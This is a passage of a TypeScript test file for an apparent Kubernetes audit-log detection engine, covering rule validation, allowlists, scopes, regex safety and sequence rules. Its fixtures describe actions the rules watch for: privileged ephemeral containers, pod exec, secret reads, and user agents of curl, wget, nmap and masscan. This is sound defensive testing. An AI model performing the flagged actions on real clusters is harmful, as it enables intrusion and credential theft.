      verb: 'patch', objectRef: { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'p', name: 'x' },
      requestObject: [{ op: 'add', path: '/spec/ephemeralContainers/-', value: { name: 'dbg', image: 'busybox', securityContext: { privileged: true } } }],
    });
    expect(matches({ field: 'containers[*].securityContext.privileged', equals: true }, jsonPatch)).toBe(true);
    const pod = ev({ requestObject: { kind: 'Pod', spec: { containers: [], ephemeralContainers: [{ name: 'e', image: 'alpine' }] } } });
    expect(matches({ field: 'containers[*].image', equals: 'alpine' }, pod)).toBe(true);
  });
});

describe('head-only rules', () => {
  it('never parse the bodies, while rules on bodies do', () => {
    const big = ev({ requestObject: { kind: 'Pod', spec: { containers: [{ name: 'c', image: 'nginx', args: ['x'.repeat(3000)] }] } } });
    const full = vi.spyOn(big, 'full');
    const headOnly = { all: [{ field: 'verb', equals: 'create' }, { field: 'sourceIP', cidr: '127.0.0.0/8' }, { field: 'user.groups[*]', equals: 'devs' }, { field: 'annotations["authorization.k8s.io/decision"]', equals: 'allow' }] };
    expect(matches(headOnly, big, {}, { scope: { namespaces: ['payments'] }, aggregate_by: ['user.username'], output: '{user.username} {verb}' })).toBe(true);
    expect(full).not.toHaveBeenCalled();
    expect(matches({ field: 'containers[*].image', equals: 'nginx' }, big)).toBe(true);
    expect(full).toHaveBeenCalled();
  });
});

describe('rule errors', () => {
  const rule = (match: string, extra = '') => `rules:\n  - id: KA-EXEC-001\n    name: n\n    category: command-execution\n    level: high\n${extra}    match: ${match}\n`;
  it('name the file, the rule and the field path', () => {
    expect(loadError(rule('{ all: [ { field: verb, equals: create }, { field: userAgent, regex: "(a+)+" } ] }')))
      .toBe('rules/custom.yaml: rules[0] (KA-EXEC-001).match.all[1].regex: pattern can backtrack catastrophically: (a+)+ (nested quantifiers)');
    expect(loadError(rule('{ field: verb, equal: create }'))).toMatch(/^rules\/custom\.yaml: rules\[0\] \(KA-EXEC-001\)\.match\.equal: unknown operator/);
    expect(loadError(rule('{ field: verb, in_list: nope }'))).toContain('rules[0] (KA-EXEC-001).match.in_list: unknown list "nope"');
    expect(loadError(rule('{ macro: nope }'))).toContain('.match.macro: unknown macro "nope"');
    expect(loadError(rule('{ field: verb, equals: x }', '    level: urgent\n').replace('    level: high\n', ''))).toContain('level');
    expect(loadError(rule('{ field: sourceIP, cidr: 10.0.0.0/33 }'))).toContain('.match.cidr: invalid CIDR "10.0.0.0/33"');
    expect(loadError(rule('{ field: verb, equals: x, prefix: y }'))).toContain('expected exactly one operator');
    expect(loadError(rule('{ field: "a..b", exists: true }'))).toContain('.match.field: bad field path');
    expect(loadError(rule('{ field: verb, equals: x }', '    stages: [Done]\n'))).toContain('(KA-EXEC-001).stages[0]: unknown stage "Done"');
    expect(loadError(`${rule('{ field: verb, equals: x }')}${rule('{ field: verb, equals: y }').replace('rules:\n', '')}`)).toContain('rules[1] (KA-EXEC-001).id: duplicate rule id');
    expect(loadError('rules: [ { id: X, name: x, category: Bad_Cat, level: low, match: { field: verb, equals: x } } ]')).toContain('rules[0] (X).category');
    expect(loadError('macros: { a: { macro: b }, b: { macro: a } }')).toContain('refers to itself');
    expect(loadError('rules: [ {')).toMatch(/^rules\/custom\.yaml: not valid YAML/);
  });
  it('loadRuleFiles reads files in order and names a missing one', () => {
    const dir = mkdtempSync(join(tmpdir(), 'kaudit-rules-'));
    writeFileSync(join(dir, 'a.yaml'), 'lists: { ns: [payments] }\n');
    writeFileSync(join(dir, 'b.yaml'), 'rules: [ { id: B, name: b, category: test, level: note, match: { field: objectRef.namespace, in_list: ns } } ]\n');
    const set = loadRuleFiles([join(dir, 'a.yaml'), join(dir, 'b.yaml')]);
    expect(set.rules.map((r) => [r.id, r.type])).toEqual([['B', 'custom']]);
    expect(() => loadRuleFiles([join(dir, 'missing.yaml')])).toThrow(/missing\.yaml: cannot read rule file/);
  });
  it('a file marked type: system gives its rules the system type', () => {
    const set = compileRuleTexts([{ name: 's.yaml', text: 'type: system\nrules: [ { id: S, name: s, category: test, level: note, match: { field: verb, exists: true } } ]' }]);
    expect(set.rules[0].type).toBe('system');
  });
});

describe('scope', () => {
  const rule = (scope: string) => `rules: [ { id: S, name: s, category: test, level: low, scope: ${scope}, match: { field: verb, exists: true } } ]`;
  it('takes clusters, namespaces or both', () => {
    const [r] = compileRuleTexts([{ name: 'f', text: rule('{ clusters: [prod-eu, prod-us] }') }]).rules;
    expect(r.clusters).toEqual(new Set(['prod-eu', 'prod-us']));
    expect(r.namespaces).toBeUndefined();
    const [both] = compileRuleTexts([{ name: 'f', text: rule('{ clusters: [prod], namespaces: [payments] }') }]).rules;
    expect([both.clusters, both.namespaces]).toEqual([new Set(['prod']), new Set(['payments'])]);
    const [none] = compileRuleTexts([{ name: 'f', text: 'rules: [ { id: S, name: s, category: test, level: low, match: { field: verb, exists: true } } ]' }]).rules;
    expect([none.clusters, none.namespaces]).toEqual([undefined, undefined]);
  });
  it('refuses an empty scope, an unknown key and empty lists', () => {
    expect(loadError(rule('{}'))).toContain('rules[0] (S).scope: expected { clusters: [...], namespaces: [...] } (either or both)');
    expect(loadError(rule('{ cluster: [prod] }'))).toContain('(S).scope: expected');
    expect(loadError(rule('{ clusters: [] }'))).toContain('(S).scope.clusters: expected a non-empty list of cluster names');
    expect(loadError(rule('{ namespaces: prod }'))).toContain('(S).scope.namespaces: expected a non-empty list of namespaces');
  });
});

describe('allowlist', () => {
  const RULES = `rules:
  - { id: KA-EXEC-001, name: exec, category: command-execution, level: high, stages: any, match: { field: objectRef.subresource, equals: exec } }
  - { id: KA-EXEC-002, name: pf, category: command-execution, level: medium, stages: any, match: { field: objectRef.subresource, equals: portforward } }
  - { id: KA-CRED-001, name: secrets, category: credential-access, level: high, stages: any, match: { field: objectRef.resource, equals: secrets } }
`;
  const load = (allow: string, ...more: string[]) => compileRuleTexts([{ name: 'rules.yaml', text: RULES }, { name: 'site.yaml', text: allow }, ...more.map((text, i) => ({ name: `more${i}.yaml`, text }))]);
  const rule = (set: ReturnType<typeof load>, id: string) => set.rules.find((r) => r.id === id)!;
  const execBy = (username: string, namespace = 'payments') => ev({ user: { username, groups: [] }, verb: 'create', objectRef: { resource: 'pods', subresource: 'exec', namespace, name: 'p' } });

  it('compiles entries with rule ids and categories expanded to ids, scope and match', () => {
    const set = load(`allowlist:
  - id: debug-sre
    description: SREs debug payments pods
    rules: [command-execution]
    scope: { clusters: [prod], namespaces: [payments] }
    match: { field: user.username, equals: oncall-sre }
  - id: backup-reads
    rules: [KA-CRED-001]
    match: { field: user.username, equals: velero }
  - id: everything-from-bastion
    match: { field: sourceIP, cidr: 10.9.0.0/16 }
`);
    expect(set.allowlist.map((a) => [a.id, a.rules && [...a.rules].sort(), a.clusters, a.namespaces, a.file])).toEqual([
      ['debug-sre', ['KA-EXEC-001', 'KA-EXEC-002'], new Set(['prod']), new Set(['payments']), 'site.yaml'],
      ['backup-reads', ['KA-CRED-001'], undefined, undefined, 'site.yaml'],
      ['everything-from-bastion', undefined, undefined, undefined, 'site.yaml'],
    ]);
    expect(set.allowlist[0].description).toBe('SREs debug payments pods');
    expect(set.allowlist[1].description).toBe('');
  });

  it('allowedBy returns the first entry whose rules, cluster, namespace and match fit the hit', () => {
    const set = load(`allowlist:
  - { id: sre, rules: [command-execution], scope: { clusters: [prod], namespaces: [payments] }, match: { field: user.username, equals: oncall-sre } }
  - { id: sre-anywhere, rules: [KA-EXEC-002], match: { field: user.username, equals: oncall-sre } }
`);
    const exec = rule(set, 'KA-EXEC-001');
    const allowed = (e: AuditEvent, r = exec, cluster = 'prod') => allowedBy(set.allowlist, r, new EvalContext(e), cluster)?.id;
    expect(allowed(execBy('oncall-sre'))).toBe('sre');
    expect(allowed(execBy('oncall-sre'), exec, 'stage')).toBeUndefined();
    expect(allowed(execBy('oncall-sre', 'kube-system'))).toBeUndefined();
    expect(allowed(execBy('mallory'))).toBeUndefined();
    expect(allowed(execBy('oncall-sre'), rule(set, 'KA-CRED-001'))).toBeUndefined();
    expect(allowed(execBy('oncall-sre', 'kube-system'), rule(set, 'KA-EXEC-002'))).toBe('sre-anywhere');
    // A namespace scope never fits a cluster-scoped event.
    expect(allowed(ev({ user: { username: 'oncall-sre' }, objectRef: { resource: 'nodes', name: 'n' } }))).toBeUndefined();
    expect(allowedBy([], exec, new EvalContext(execBy('oncall-sre')), 'prod')).toBeUndefined();
  });

  it('an entry copied from an alarm\'s evidence matches that alarm\'s event', () => {
    const set = load(`allowlist:
  - id: nightly-debug
    rules: [KA-EXEC-001]
    match:
      all:
        - { field: user.username, equals: oncall-sre }
        - { field: objectRef.namespace, equals: payments }
        - { field: objectRef.resource, equals: pods }
        - { field: objectRef.name, equals: p }
        - { field: sourceIP, equals: 127.0.0.9 }
        - { field: userAgent, prefix: kubectl/ }
`);
    expect(allowedBy(set.allowlist, rule(set, 'KA-EXEC-001'), new EvalContext(execBy('oncall-sre')), 'c')?.id).toBe('nightly-debug');
    expect(allowedBy(set.allowlist, rule(set, 'KA-EXEC-001'), new EvalContext(ev({ ...execBy('oncall-sre').full(), sourceIPs: ['10.1.1.1'] })), 'c')).toBeUndefined();
  });

  it('may name rules of files loaded after it, and uses lists and macros of any file', () => {
    const set = compileRuleTexts([
      { name: 'site.yaml', text: 'allowlist: [ { id: a, rules: [LATE-1], match: { macro: trusted_user } } ]' },
      { name: 'late.yaml', text: 'lists: { trusted: [dana] }\nmacros: { trusted_user: { field: user.username, in_list: trusted } }\nrules: [ { id: LATE-1, name: l, category: test, level: low, match: { field: verb, exists: true } } ]' },
    ]);
    expect(allowedBy(set.allowlist, set.rules[0], new EvalContext(ev()), 'c')?.id).toBe('a');
  });

  it('refuses unknown rules, a missing match, unknown keys and duplicate ids, naming the entry', () => {
    const err = (allow: string) => {
      try {
        load(allow);
      } catch (e) {
        expect(e).toBeInstanceOf(RuleError);
        return (e as Error).message;
      }
      throw new Error('expected a RuleError');
    };
    expect(err('allowlist: [ { id: a, rules: [KA-NOPE-001], match: { field: verb, equals: get } } ]')).toBe('site.yaml: allowlist[0] (a).rules[0]: unknown rule or category "KA-NOPE-001"');
    expect(err('allowlist: [ { id: a, rules: [KA-EXEC-001] } ]')).toBe('site.yaml: allowlist[0] (a).match: required');
    expect(err('allowlist: [ { id: a, rule: [KA-EXEC-001], match: { field: verb, equals: get } } ]')).toContain('site.yaml: allowlist[0] (a).rule: unknown key');
    expect(err('allowlist: [ { rules: [KA-EXEC-001], match: { field: verb, equals: get } } ]')).toContain('allowlist[0].id: expected a non-empty string');
    expect(err('allowlist: [ { id: a, rules: [], match: { field: verb, equals: get } } ]')).toContain('(a).rules: expected a non-empty list');
    expect(err('allowlist: [ { id: a, scope: { namespace: [x] }, match: { field: verb, equals: get } } ]')).toContain('(a).scope: expected');
    expect(err('allowlist: [ { id: a, match: { field: verb, equal: get } } ]')).toContain('allowlist[0] (a).match.equal: unknown operator');
    expect(err('allowlist: [ { id: a, match: { field: verb, equals: get } }, { id: a, match: { field: verb, equals: list } } ]')).toContain('allowlist[1] (a).id: duplicate allowlist id (first defined in site.yaml)');
    expect(err('allowlist: { id: a }')).toBe('site.yaml: allowlist: expected a list of entries');
    expect(err('allow: []')).toContain('site.yaml: allow: unknown key (expected type, lists, macros, rules, allowlist)');
  });
});

describe('regular expressions', () => {
  const rule = (re: string) => `rules: [ { id: R, name: r, category: test, level: low, match: { field: userAgent, regex: ${JSON.stringify(re)} } } ]`;
  it.each(['(a+)+', '(a|a)*', '(a|ab)+$', '(\\w+\\s?)*$', '(.*a){2,}', '(x+x+)+y'])('rejects the backtracking pattern %s', (re) => {
    expect(loadError(rule(re))).toContain('pattern can backtrack catastrophically');
  });
  // Without nesting, repeated atoms side by side are a polynomial as steep as their number: `.*.*.*.*.*.*=` took
  // seconds on a 50-character value.
  it.each(['.*.*.*.*.*.*=', 'a*a*b', '\\s*\\s*$', '[a-z]+b?[a-z]+!', '.*(?:.*)x', 'x.+(?:y|.*)z'])('rejects adjacent quantifiers that can match the same text: %s', (re) => {
    expect(loadError(rule(re))).toContain('pattern can backtrack catastrophically');
    expect(loadError(rule(re))).toContain('adjacent quantifiers that can match the same text');
  });
  it.each(['(a)\\1', '(?=a)b', '(?<!a)b', '(?<n>a)\\k<n>'])('rejects backreferences and lookarounds: %s', (re) => {
    expect(loadError(rule(re))).toMatch(/backreferences|lookarounds/);
  });
  it('accepts common patterns and runs them over a 100 KB value', () => {
    const patterns = ['^(curl|python|wget)/', '^kubectl/v1\\.[0-9]+', '(nmap|masscan|zgrab)', '^system:serviceaccount:[a-z0-9-]+:[a-z0-9-]+$', '(ab|cd)+x',
      '^[ ]*\\*[ ]+\\*$', '\\d+\\.\\d+'];
    const long = 'a'.repeat(100_000);
    for (const re of patterns) {
      expect(matches({ field: 'userAgent', regex: re }, ev({ userAgent: long }))).toBe(false);
    }
  });
  it('reports a pattern that does not compile', () => {
    expect(loadError(rule('[a-'))).toContain('invalid regular expression');
  });
});

describe('macro errors', () => {
  it('name the file, the macro and the field path', () => {
    expect(loadError('macros:\n  m: { all: [ { field: verb, equals: x }, { field: verb, regex: "(a|a)*" } ] }'))
      .toBe('rules/custom.yaml: macros.m.all[1].regex: pattern can backtrack catastrophically: (a|a)* (quantified group with overlapping alternatives)');
    expect(loadError('macros: { a: { macro: b }, b: { macro: a } }')).toMatch(/^rules\/custom\.yaml: macros\.[ab]\.macro: macro "[ab]" refers to itself$/);
  });
});

describe('parsed rule files are cached by content', () => {
  it('loads the same rules from the cache as from the YAML, and a changed file is parsed again', async () => {
    const { mkdtempSync, writeFileSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const dir = mkdtempSync(join(tmpdir(), 'kaudit-rule-cache-'));
    const file = join(dir, 'site.yaml');
    writeFileSync(file, 'rules:\n  - { id: C-1, name: c, category: test, level: low, match: { field: verb, equals: get } }\n');
    const first = loadRuleFiles([file]).rules.map((r) => r.id);
    const second = loadRuleFiles([file]).rules.map((r) => r.id); // from the cache when the home directory is writable
    expect(second).toEqual(first);
    writeFileSync(file, 'rules:\n  - { id: C-2, name: c, category: test, level: low, match: { field: verb, equals: list } }\n');
    expect(loadRuleFiles([file]).rules.map((r) => r.id)).toEqual(['C-2']);
    writeFileSync(file, 'rules: [ { id: C-3\n');
    expect(() => loadRuleFiles([file])).toThrow(/not valid YAML/);
  });
});

describe('rules compiled ahead', () => {
  const fileWith = (text: string): string => {
    const file = join(mkdtempSync(join(tmpdir(), 'kaudit-ahead-')), 'rules.yaml');
    writeFileSync(file, text);
    return file;
  };
  const ruleText = (id: string) => `rules:\n  - { id: ${id}, name: ${id}, category: test, level: low, match: { field: verb, equals: get } }\n`;

  it('are taken by the next load of the same unchanged files, once', () => {
    const file = fileWith(ruleText('R-1'));
    const ahead = compileAhead([file]);
    expect(ahead?.rules.map((r) => r.id)).toEqual(['R-1']);
    expect(loadRuleFiles([file])).toBe(ahead);
    // Taken once: the next load compiles afresh.
    const again = loadRuleFiles([file]);
    expect(again).not.toBe(ahead);
    expect(again.rules.map((r) => r.id)).toEqual(['R-1']);
  });

  it('are not used when a file changed since, or other files are loaded', () => {
    const file = fileWith(ruleText('R-1'));
    const ahead = compileAhead([file]);
    writeFileSync(file, ruleText('R-2'));
    const changed = loadRuleFiles([file]);
    expect(changed).not.toBe(ahead);
    expect(changed.rules.map((r) => r.id)).toEqual(['R-2']);
    const other = fileWith(ruleText('R-3'));
    compileAhead([file]);
    expect(loadRuleFiles([file, other]).rules.map((r) => r.id)).toEqual(['R-2', 'R-3']);
    compileAhead([file]);
    expect(loadRuleFiles([other]).rules.map((r) => r.id)).toEqual(['R-3']);
  });

  it('can be discarded unused', () => {
    const file = fileWith(ruleText('R-1'));
    const ahead = compileAhead([file]);
    discardCompiledAhead();
    expect(loadRuleFiles([file])).not.toBe(ahead);
  });

  it('leave errors to the load: a broken file compiled ahead still fails the load with its reason', () => {
    const file = fileWith(ruleText('R-1').replace('level: low', 'level: critical'));
    expect(compileAhead([file])).toBeUndefined();
    expect(() => loadRuleFiles([file])).toThrow(/level: expected high, medium, low or note/);
  });
});

describe('sequence rules', () => {
  const file = (steps: unknown[], extra: Json = {}) => JSON.stringify({ rules: [
    { id: 'T-A', name: 'a', category: 'test', level: 'low', match: { field: 'verb', equals: 'create' } },
    { id: 'T-SEQ', name: 'seq', category: 'test', level: 'medium', sequence: steps, within: '5m', by: ['user.username'], ...extra },
  ] });
  const at = (minute: number, verb: string, username = 'dana') => ev({ verb, user: { username, groups: [] }, auditID: `a-${minute}-${verb}-${username}`,
    requestReceivedTimestamp: `2026-11-22T12:${String(minute).padStart(2, '0')}:00.000000Z` });
  const run = (text: string, events: AuditEvent[]) => {
    const engine = new DetectionEngine(compileRuleTexts([{ name: 't.yaml', text }]), { clusterName: 'c', clusterId: 'i' });
    return events.map((e) => engine.hits(e).filter((h) => h.ruleId === 'T-SEQ').length);
  };
  const steps = [{ rule: 'T-A' }, { match: { field: 'verb', equals: 'patch' } }, { match: { field: 'verb', equals: 'delete' } }];

  it('hit on the request that completes the steps in order, by one actor, within the window of the first', () => {
    expect(run(file(steps), [at(1, 'create'), at(2, 'patch'), at(3, 'delete')])).toEqual([0, 0, 1]);
    // Completed once: the next delete needs the steps again.
    expect(run(file(steps), [at(1, 'create'), at(2, 'patch'), at(3, 'delete'), at(4, 'delete')])).toEqual([0, 0, 1, 0]);
    expect(run(file(steps), [at(1, 'create'), at(2, 'delete'), at(3, 'patch')])).toEqual([0, 0, 0]);
    expect(run(file(steps), [at(1, 'create'), at(2, 'patch', 'eve'), at(3, 'delete')])).toEqual([0, 0, 0]);
    expect(run(file(steps), [at(1, 'create'), at(2, 'patch'), at(7, 'delete')])).toEqual([0, 0, 0]);
    // A later first step starts the window again.
    expect(run(file(steps), [at(1, 'create'), at(4, 'create'), at(5, 'patch'), at(8, 'delete')])).toEqual([0, 0, 0, 1]);
  });

  it('are checked when the file loads', () => {
    const text = (s: unknown[], extra: Json = {}) => file(s, extra);
    expect(loadError(text([{ rule: 'T-A' }]))).toContain('rules[1] (T-SEQ).sequence: expected a list of at least two steps');
    expect(loadError(text([{ rule: 'T-NOPE' }, { rule: 'T-A' }]))).toContain('rules[1] (T-SEQ).sequence[0].rule: unknown rule "T-NOPE"');
    expect(loadError(text([{ rule: 'T-A', match: {} }, { rule: 'T-A' }]))).toContain('(T-SEQ).sequence[0]: expected { rule: ID } or { match: CONDITION }');
    expect(loadError(text(steps, { match: { field: 'verb', equals: 'get' } }))).toContain('(T-SEQ).match: not with sequence');
    expect(loadError(text(steps, { by: [] }))).toContain('(T-SEQ).by: expected a non-empty list of field paths');
    expect(loadError(text([{ rule: 'T-A' }, { match: { field: 'verb', equal: 'x' } }]))).toContain('rules[1] (T-SEQ).sequence[1].match.equal: unknown operator');
    expect(loadError(JSON.stringify({ rules: [{ id: 'T-1', name: 't', category: 'test', level: 'low', within: '5m', match: { field: 'verb', equals: 'x' } }] }))).toContain('(T-1).within: only with sequence');
  });
});
